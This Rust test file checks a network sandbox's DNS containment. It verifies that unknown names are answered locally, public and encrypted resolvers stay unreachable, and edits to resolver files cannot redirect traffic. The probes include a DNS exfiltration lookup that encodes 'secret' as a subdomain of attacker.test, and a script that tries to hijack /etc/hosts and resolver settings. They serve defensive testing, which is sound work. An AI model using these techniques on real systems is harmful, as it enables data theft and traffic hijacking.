//! Names (DNS): only what the policy allows is known inside, and the world outside hears of nothing else.
#![forbid(unsafe_code)]

use stockade_testkit::{
    Mode, Outer, Stockade,
    outer::RESOLVER,
    upstream::{Dns, Http, Tcp, Udp},
};

const POLICY: &str = "
version: 1
network:
  endpoints:
    site:
      hosts: [up.test]
      ports: [80]
      private_addresses: [192.0.2.0/24]
";

#[test]
fn an_unknown_name_is_answered_locally() {
    Outer::run(|_| {
        let dns = Dns::start((RESOLVER, 53));
        dns.host("up.test", "192.0.2.10");
        dns.host("c2VjcmV0.attacker.test", "192.0.2.10");
        for mode in Mode::available() {
            let tries = ["resolve:c2VjcmV0.attacker.test", "resolve:up.test"];
            let run = Stockade::new(*mode).policy(POLICY).probe(&tries);
            assert!(!run.outcome(tries[0]).what.starts_with("ok"), "{mode:?} {run:?}");
            assert!(run.outcome(tries[1]).what.starts_with("ok 198.1"), "a synthetic address: {mode:?} {run:?}");
            assert!(run.outcome(tries[0]).millis < 1000, "answered, not waited for: {mode:?} {run:?}");
            // One try is a question for each family.
            let told: u64 = run.events.with("dns_no_policy").iter().map(|e| e.0["count"].as_u64().unwrap_or(1)).sum();
            assert_eq!((told, run.events.refusals()), (2, 2), "{mode:?} {run:?}");
            let event = run.events.some("dns_no_policy");
            assert_eq!((event.action(), event.host()), (Some("denied"), Some("c2vjcmv0.attacker.test")), "{mode:?}");
        }
        assert_eq!(dns.queries(), [], "no resolver saw a question, not even for the allowed name before its use");
        let bare = Stockade::new(Mode::Rootless).unwrapped().probe(&["resolve:c2VjcmV0.attacker.test"]);
        assert!(dns.count("c2vjcmv0.attacker.test") > 0, "tripwire: without Stockade it leaves {bare:?}");
    });
}

#[test]
fn a_tool_without_proxy_support_reaches_an_allowed_name() {
    Outer::run(|_| {
        let dns = Dns::start((RESOLVER, 53));
        dns.host("up.test", "192.0.2.10");
        let site = Http::hello("192.0.2.10:80");
        for mode in Mode::available() {
            let run =
                Stockade::new(*mode).policy(POLICY).sh("curl -sS --noproxy '*' --max-time 10 http://up.test/direct");
            assert_eq!(run.text(), "hello from upstream\n", "{mode:?} {run:?}");
        }
        assert!(site.requests().iter().all(|r| r.target() == "/direct"));
        assert_eq!(site.requests().len(), Mode::available().len());
    });
}

#[test]
fn public_resolvers_are_out_of_reach() {
    Outer::run(|_| {
        let sinks = ["198.51.100.8:53", "203.0.113.8:53"].map(Udp::sink);
        let streams = ["198.51.100.8:53", "198.51.100.8:853"].map(Tcp::sink);
        let (dns, secure) = (Dns::start((RESOLVER, 53)), Tcp::sink("198.51.100.9:443"));
        dns.host("up.test", "192.0.2.10");
        dns.host("dns.example.com", "198.51.100.9");
        let _site = Http::hello("192.0.2.10:80");
        for mode in Mode::available() {
            let tries = [
                "tcp:198.51.100.8:853",
                "udp:198.51.100.8:53:query",
                "udp:203.0.113.8:53:query",
                "proxy:CONNECT dns.example.com:443 HTTP/1.1\\r\\nHost: dns.example.com:443\\r\\n\\r\\n",
                "tcp:198.51.100.8:53",
                "proxy:GET http://up.test/ HTTP/1.1\\r\\nHost: up.test\\r\\n\\r\\n",
            ];
            let run = Stockade::new(*mode).policy(POLICY).probe(&tries);
            assert!(run.outcome(tries[0]).is_refused(), "{mode:?} {run:?}");
            assert!(tries[1..3].iter().all(|t| !run.outcome(t).what.starts_with("ok")), "{mode:?} {run:?}");
            assert!(run.outcome(tries[3]).what.starts_with("ok HTTP/1.1 403"), "{mode:?} {run:?}");
            let direct = run.events.with("bypass").into_iter().filter(|e| e.port() == Some(853)).count();
            assert_eq!(direct, 1, "{mode:?} {run:?}");
            assert_eq!(run.events.one("no_policy").host(), Some("dns.example.com"), "{mode:?}");
            assert!(run.outcome(tries[4]).is_refused(), "{mode:?} {run:?}");
            assert!(run.outcome(tries[5]).what.starts_with("ok HTTP/1.1 200"), "control: {mode:?} {run:?}");
            assert_eq!(run.events.refusals(), 5, "one event each for what left for elsewhere: {mode:?} {run:?}");
        }
        sinks.iter().for_each(|s| s.counters.assert_untouched());
        streams.iter().chain([&secure]).for_each(|s| s.counters.assert_untouched());
        assert_eq!(dns.count("dns.example.com"), 0);
        let tries = [
            "udp:198.51.100.8:53:query",
            "udp:203.0.113.8:53:query",
            "tcp:198.51.100.8:53",
            "tcp:198.51.100.8:853",
            "tcp:198.51.100.9:443",
        ];
        Stockade::new(Mode::Rootless).unwrapped().probe(&tries);
        assert!(sinks.iter().all(|s| s.counters.arrivals() > 0), "tripwire: without Stockade they are in reach");
        assert!(streams.iter().chain([&secure]).all(|s| s.counters.arrivals() == 1), "tripwire");
    });
}

#[test]
fn what_the_command_writes_does_not_steer_the_door() {
    Outer::run(|outer| {
        let dns = Dns::start((RESOLVER, 53));
        dns.host("up.test", "192.0.2.10");
        let site = Http::hello("192.0.2.10:80");
        let wrong = Http::hello("192.0.2.66:80");
        for mode in Mode::available() {
            let script = "for f in /etc/hosts /etc/resolv.conf /etc/nsswitch.conf; do
                    (echo 192.0.2.66 up.test >> $f) 2>/dev/null && echo wrote $f
                done
                echo up.test 192.0.2.66 > aliases
                HOSTALIASES=$PWD/aliases LOCALDOMAIN=evil.test RES_OPTIONS=ndots:9 curl -sS --max-time 10 http://up.test/";
            let run = Stockade::new(*mode).policy(POLICY).sh(script);
            assert!(run.text().ends_with("hello from upstream\n"), "{mode:?} {run:?}");
        }
        wrong.counters().assert_untouched();
        assert_eq!(site.requests().len(), Mode::available().len());
        assert!(dns.queries().iter().all(|(name, _)| name == "up.test"), "{:?}", dns.queries());
        // The same line in the file of the machine, which the command cannot write, does steer it.
        outer.hosts(&[("192.0.2.66".parse().unwrap(), "up.test")]);
        let run = Stockade::new(Mode::Rootless).policy(POLICY).sh("curl -sS --max-time 10 http://up.test/");
        assert_eq!(wrong.requests().len(), 1, "tripwire: {run:?}");
    });
}
